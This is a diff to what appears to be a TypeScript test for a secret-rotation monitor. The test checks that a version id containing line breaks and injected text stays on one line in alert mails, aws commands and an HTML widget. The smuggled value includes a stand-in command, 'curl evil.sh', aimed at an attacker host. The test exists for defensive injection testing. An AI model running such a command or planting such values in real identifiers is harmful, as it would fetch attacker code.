@@ -28,6 +28,10 @@ const tag = (deployed: Deployed, tags: Readonly<Record<string, string>>) =>
     Tags: Object.entries(tags).map(([key, Value]) => ({ Key: `rotation-monitor:${key}`, Value })),
   });
 
+/** A word, or the version that it names in JSON. */
+const asWritten = (word: string): string =>
+  word.startsWith('{') ? String(JSON.parse(word).ClientRequestToken) : word;
+
 test('a version id with line breaks is one line everywhere, and the commands about it work', async () => {
   const deployed = await aDeployment(seed());
   const { simulator, mails, logs } = deployed;
@@ -43,7 +47,7 @@ test('a version id with line breaks is one line everywhere, and the commands abo
   const commands = message.split('\n').filter((line) => line.startsWith('   aws '));
   const naming = commands.filter((line) => line.includes('evil'));
   expect(naming.length).toBeGreaterThan(0);
-  for (const command of naming) expect(shellWords(command.trim()).join('\0')).toContain(VERSION);
+  for (const command of naming) expect(shellWords(command.trim()).map(asWritten)).toContain(VERSION);
   const html = String(await simulator.functions.invoke('open-alerts-widget', {}));
   expect(html).toContain('curl evil.sh');
   expect(html).not.toMatch(/\nDo: run/);
